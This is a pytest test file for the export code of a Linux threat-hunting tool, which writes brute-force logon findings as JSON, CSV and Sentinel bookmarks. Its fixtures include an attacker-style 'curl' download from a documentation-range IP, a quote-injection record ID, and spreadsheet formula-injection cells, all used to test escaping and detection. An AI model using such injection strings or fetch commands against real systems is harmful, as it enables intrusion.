"""Findings and verdicts as files: FINDINGS.json whole, CSV that no spreadsheet runs, bookmarks."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

from linuxhunt import exports
from linuxhunt.scope import Scope
from linuxhunt.sections import Finding, Verdict, findings_frame
from linuxhunt.workspace import Completeness
from tests.made import utc

SCOPE = Scope(utc("2026-03-12"), utc("2026-03-15"), "web01", ("web01",))


def finding(title: str = "Guessed: 412 failures", **more: Any) -> Finding:
    known = {
        "section": "logons", "title": title, "severity": "High",
        "techniques": ("T1110.001", "T1078"), "reason": "412 failures, then a success",
        "start": utc("2026-03-13 02:14:07.5"), "end": utc("2026-03-13 02:20:00"),
        "records": ("auth.log:7", 'auth.log:9" or "a'), "host": "web01", "user": "deploy",
        "address": "203.0.113.9",
    }  # fmt: skip
    return Finding(**{**known, **more})


def made(*findings: Finding, notes: str = "", verdict: str = "supported") -> dict[str, Any]:
    whole = Completeness("auth lines", 48_211, utc("2026-03-12 00:00:31"), utc("2026-03-14 23:59"))
    verdicts = [
        (Verdict("logons", "Somebody got in.", verdict), whole),
        (Verdict("network", "It talks to somebody.", "cannot tell", ("flows",)),
         Completeness("flows", answered=0, missing=("there is no table of flows",))),
    ]  # fmt: skip
    return exports.document("logs", SCOPE, verdicts, findings_frame(findings), notes)


def test_findings_json_is_what_the_contract_says() -> None:
    one = finding()
    assert made(one) == {
        "source": "logs",
        "host": "web01",
        "start": "2026-03-12T00:00:00.000000Z",
        "end": "2026-03-15T00:00:00.000000Z",
        "hypotheses": [
            {
                "section": "logons",
                "hypothesis": "Somebody got in.",
                "verdict": "supported",
                "missing": [],
                "completeness": {
                    "source": "auth lines", "rows": 48_211, "first": "2026-03-12T00:00:31.000000Z",
                    "last": "2026-03-14T23:59:00.000000Z", "asked": 1, "answered": 1,
                    "partial": False, "missing": [], "lacks": [],
                },
            },
            {
                "section": "network",
                "hypothesis": "It talks to somebody.",
                "verdict": "cannot tell",
                "missing": ["flows"],
                "completeness": {
                    "source": "flows", "rows": 0, "first": None, "last": None, "asked": 1,
                    "answered": 0, "partial": False, "missing": ["there is no table of flows"],
                    "lacks": [],
                },
            },
        ],
        "findings": [
            {
                "FindingId": one.id,
                "Section": "logons",
                "Title": "Guessed: 412 failures",
                "EventSeverity": "High",
                "AttackTechniques": ["T1110.001", "T1078"],
                "Reason": "412 failures, then a success",
                "EventStartTime": "2026-03-13T02:14:07.500000Z",
                "EventEndTime": "2026-03-13T02:20:00.000000Z",
                "DvcHostname": "web01",
                "TargetUsername": "deploy",
                "SrcIpAddr": "203.0.113.9",
                "LogonSessionId": None,
                "TargetProcessGuid": None,
                "CommandLine": None,
                "EvidenceCount": 2,
                "RecordIds": ["auth.log:7", 'auth.log:9" or "a'],
            }
        ],
    }  # fmt: skip


def test_nothing_found_is_an_empty_list_and_notes_come_last() -> None:
    held = made(notes="Called the owner.")
    assert (held["findings"], list(held)[-1], held["notes"]) == ([], "notes", "Called the owner.")
    everybody = exports.document("logs", SCOPE.on(None), [], findings_frame([]))
    assert (everybody["host"], everybody["hypotheses"]) == ("all", [])


def test_several_hosts_are_one_document() -> None:
    other = finding(host="db01")
    second = {**made(other), "host": "db01", "start": "2026-03-11T00:00:00.000000Z"}
    both = exports.joined([made(finding()), second])
    assert {key: both[key] for key in ("source", "host", "start", "end")} == {
        "source": "logs",
        "host": "all",
        "start": "2026-03-11T00:00:00.000000Z",
        "end": "2026-03-15T00:00:00.000000Z",
    }
    assert [(each["host"], each["section"], list(each)[-1]) for each in both["hypotheses"]] == [
        ("web01", "logons", "host"),
        ("web01", "network", "host"),
        ("db01", "logons", "host"),
        ("db01", "network", "host"),
    ]
    assert [row["FindingId"] for row in both["findings"]] == [finding().id, other.id]


@pytest.mark.parametrize(
    ("severities", "fail_on", "status"),
    [
        pytest.param(["High"], "High", 3, id="reached"),
        pytest.param(["High"], "Low", 3, id="more than reached"),
        pytest.param(["Medium", "Low"], "High", 4, id="not reached, one cannot be told"),
        pytest.param([], "Informational", 4, id="nothing found, one cannot be told"),
    ],
)
def test_status_of_fail_on(severities: list[str], fail_on: str, status: int) -> None:
    held = made(*(finding(severity=severity) for severity in severities))
    assert exports.status(held, fail_on) == status


def test_status_of_nothing_found_where_all_can_be_told() -> None:
    held = made(finding(severity="Low"), verdict="not supported")
    told = {**held, "hypotheses": held["hypotheses"][:1]}
    assert (exports.status(told, "Medium"), exports.status(told, "Low")) == (0, 3)


def test_bookmarks_are_resources_of_sentinels_api() -> None:
    held = made(finding(command="curl -s http://203.0.113.9/x"), notes="Called the owner.")
    (mark,) = exports.bookmarks(held)
    assert mark == {
        "name": "2c2ad4fd-4635-59d5-8ffd-4ea863ae0fe5",
        "properties": {
            "displayName": "High: Guessed: 412 failures",
            "notes": "412 failures, then a success\nCalled the owner.",
            "query": "union isfuzzy=true Syslog, AuditLog_CL, SecurityAlert\n"
            '| where _ItemId in ("auth.log:7", "auth.log:9\\" or \\"a")',
            "queryResult": json.dumps(held["findings"][0]),
            "queryStartTime": "2026-03-12T00:00:00.000000Z",
            "queryEndTime": "2026-03-15T00:00:00.000000Z",
            "eventTime": "2026-03-13T02:14:07.500000Z",
            "labels": ["linuxhunt", "logons", "High"],
            "tactics": [
                "CredentialAccess", "InitialAccess", "Persistence", "PrivilegeEscalation",
                "DefenseEvasion",
            ],
            "techniques": ["T1110", "T1078"],
            "entityMappings": [
                {"entityType": "Host",
                 "fieldMappings": [{"identifier": "HostName", "value": "web01"}]},
                {"entityType": "Account",
                 "fieldMappings": [{"identifier": "Name", "value": "deploy"}]},
                {"entityType": "IP",
                 "fieldMappings": [{"identifier": "Address", "value": "203.0.113.9"}]},
                {"entityType": "Process",
                 "fieldMappings": [{"identifier": "CommandLine",
                                    "value": "curl -s http://203.0.113.9/x"}]},
            ],
        },
    }  # fmt: skip
    assert exports.bookmarks(held) == [mark]


def test_a_bookmark_of_an_unknown_technique_has_no_tactic() -> None:
    (mark,) = exports.bookmarks(made(finding(techniques=("T0001",))))
    assert (mark["properties"]["tactics"], mark["properties"]["techniques"]) == ([], ["T0001"])


def test_files_are_written_whole(tmp_path: Path) -> None:
    rows = [finding("=HYPERLINK(1)"), finding("@x", severity="Low", user="-deploy")]
    held = made(*rows)
    written = exports.write_all(tmp_path / "a" / "b", held, findings_frame(rows))
    assert written == [
        tmp_path / "a" / "b" / name for name in ("findings.json", "findings.csv", "bookmarks.json")
    ]
    texts = [path.read_bytes().decode() for path in written]
    assert json.loads(texts[0]) == held
    cells = list(csv.DictReader(io.StringIO(texts[1], newline="")))
    assert [(row["Title"], row["TargetUsername"], row["RecordIds"]) for row in cells] == [
        ("'=HYPERLINK(1)", "deploy", '["auth.log:7", "auth.log:9\\" or \\"a"]'),
        ("'@x", "'-deploy", '["auth.log:7", "auth.log:9\\" or \\"a"]'),
    ]
    assert json.loads(texts[2]) == exports.bookmarks(held)


def test_an_empty_frame_has_columns_all_the_same(tmp_path: Path) -> None:
    exports.write_all(tmp_path, made(), findings_frame([]))
    frame = pd.read_csv(tmp_path / "findings.csv")
    assert list(frame.columns) == list(findings_frame([]).columns)
